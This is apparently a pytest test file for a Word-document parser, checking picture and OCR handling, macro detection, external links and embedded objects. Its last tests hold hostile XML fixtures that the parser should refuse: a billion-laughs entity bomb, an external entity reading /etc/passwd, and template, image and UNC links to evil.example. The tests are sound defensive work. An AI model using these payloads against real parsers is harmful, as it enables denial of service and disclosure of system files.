from __future__ import annotations

import io
import socket

import pytest
from PIL import Image, ImageDraw

from parsers.cfb import cfb
from planlift_parsers import DocumentError, Kind
from planlift_parsers.scan.installed import is_installed
from planlift_schema import Severity

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EXTERNAL = ' TargetMode="External"'
A4_LINES, LOW, HIGH = 5_727_700, 254_000, 2_540_000  # English metric units


def drawing(key="pic", width=A4_LINES, height=HIGH, words=""):
    return (
        f'<w:r><w:drawing><wp:inline><wp:extent cx="{width}" cy="{height}"/>'
        f'<wp:docPr id="1" name="Picture 1" descr="{words}"/>'
        f'<a:graphic><a:graphicData><a:blip r:embed="{key}"/></a:graphicData></a:graphic>'
        "</wp:inline></w:drawing></w:r>"
    )


def pictured(word, body, data=b"no picture"):
    made = word(body)
    made.rels.append(("pic", f"{OFFICE}/image", "media/image1.png", ""))
    made.files["word/media/image1.png"] = data
    return made


def kinds(document, kind):
    return [p.text for p in document.paragraphs() if p.kind is kind]


def said(document):
    return {note.message: note for note in document.notes}


def test_a_large_picture_is_named_in_the_rest_and_in_a_finding(word, x):
    document = pictured(word, x.p("Plan") + x.p(drawing(words="Our action plan"))).read()
    assert kinds(document, Kind.PICTURE) == ["Our action plan"]
    (note,) = document.notes
    assert note.message == "large pictures, which may hold tables (image1.png)"
    assert note.severity is Severity.WARNING


@pytest.mark.parametrize("shape", [{"height": LOW}, {"width": LOW}])
def test_a_small_picture_is_no_table(word, x, shape):
    document = pictured(word, x.p(drawing(**shape)) + x.p("Plan")).read()
    assert kinds(document, Kind.PICTURE) == []
    assert document.notes == []


def test_a_picture_of_old_word_is_measured_too(word, x):
    shape = (
        '<w:r><w:pict><v:shape style="width:451pt;height:3in" alt="The plan">'
        '<v:imagedata r:id="pic"/></v:shape></w:pict></w:r>'
    )
    assert kinds(pictured(word, x.p(shape)).read(), Kind.PICTURE) == ["The plan"]


def table_picture():
    """A ruled table of two rows as a picture, 200 dots to the inch."""
    picture = Image.new("RGB", (1250, 300), "white")
    pen = ImageDraw.Draw(picture)
    for row, texts in enumerate((("Ref", "Action", "Owner"), ("1", "Train the Board", "HR Team"))):
        for column, text in enumerate(texts):
            box = (20 + column * 400, 20 + row * 120, 420 + column * 400, 140 + row * 120)
            pen.rectangle(box, outline="black", width=3)
            pen.text((box[0] + 20, box[1] + 35), text, fill="black", font_size=44)
    made = io.BytesIO()
    picture.save(made, "PNG")
    return made.getvalue()


@pytest.mark.skipif(not is_installed(), reason="needs the extra that recognises letters")
def test_the_words_of_a_large_picture_are_recognised(word, x):
    width, height = 1250 * 4572, 300 * 4572
    body = x.tbl(x.tr(x.tc("first"))) + x.p(drawing(width=width, height=height)) + x.p("after")
    document = pictured(word, body, table_picture()).read()
    first, table = document.tables()
    assert [cell.text for cell in table.cells] == [
        "Ref",
        "Action",
        "Owner",
        "1",
        "Train the Board",
        "HR Team",
    ]
    assert (first.place.table, table.place.table) == (1, 2)
    assert document.ocr
    assert said(document)["the words of pictures were recognised (image1.png)"].code == "no-text"
    assert document.blocks[-1].text == "after"


def test_macros_are_said_and_never_run(word, x):
    made = word(x.p("Plan"))
    made.files["word/vbaProject.bin"] = b"Sub AutoOpen()"
    assert list(said(made.read())) == ["the file holds macros"]


def test_what_would_be_loaded_from_elsewhere_is_named_and_not_fetched(word, x, monkeypatch):
    def fetched(*arguments, **options):
        raise AssertionError("something was fetched")

    monkeypatch.setattr(socket.socket, "connect", fetched)
    made = word(x.p("Plan"))
    made.settings_rels.append(
        ("t", f"{OFFICE}/attachedTemplate", "http://evil.example/t.dotm", EXTERNAL)
    )
    made.part("settings", '<w:attachedTemplate r:id="t"/>')
    made.rels.append(("i", f"{OFFICE}/image", "http://evil.example/i.png", EXTERNAL))
    made.rels.append(("f", f"{OFFICE}/frame", "\\\\evil.example\\f.htm", EXTERNAL))
    made.rels.append(("h", f"{OFFICE}/hyperlink", "http://www.wwl.nhs.uk", EXTERNAL))
    assert list(said(made.read())) == [
        "an external template is attached",
        "links to parts outside of the file: http://evil.example/i.png, \\\\evil.example\\f.htm",
    ]


def test_embedded_files_are_named_in_the_rest(word, x):
    native = b"\0" * 4 + b"\2\0" + b"Action plan.xlsx\0C:\\x\0"
    made = word(x.p("Plan"))
    made.rels.append(("o", f"{OFFICE}/oleObject", "embeddings/oleObject1.bin", ""))
    made.rels.append(("p", f"{OFFICE}/package", "embeddings/Sheet1.xlsx", ""))
    made.files["word/embeddings/oleObject1.bin"] = cfb({"\x01Ole10Native": native})
    made.files["word/embeddings/Sheet1.xlsx"] = b"PK"
    document = made.read()
    assert kinds(document, Kind.EMBEDDED) == ["Action plan.xlsx", "Sheet1.xlsx"]
    (note,) = document.notes
    assert note.message == "embedded files or objects that are not read (2)"
    assert note.severity is Severity.WARNING


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@pytest.mark.parametrize(
    "doctype",
    [
        f'<!DOCTYPE w:document [<!ENTITY l0 "lol">{LAUGHS}]>',
        '<!DOCTYPE w:document [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE w:document SYSTEM "http://evil.example/e.dtd">',
    ],
    ids=["billion laughs", "external entity", "external document type"],
)
def test_entities_are_refused_unread(word, x, doctype):
    made = word(x.p("&l9;"))
    made.files["word/document.xml"] = doctype + made.files["word/document.xml"]
    with pytest.raises(DocumentError, match="document type or entities"):
        made.read()
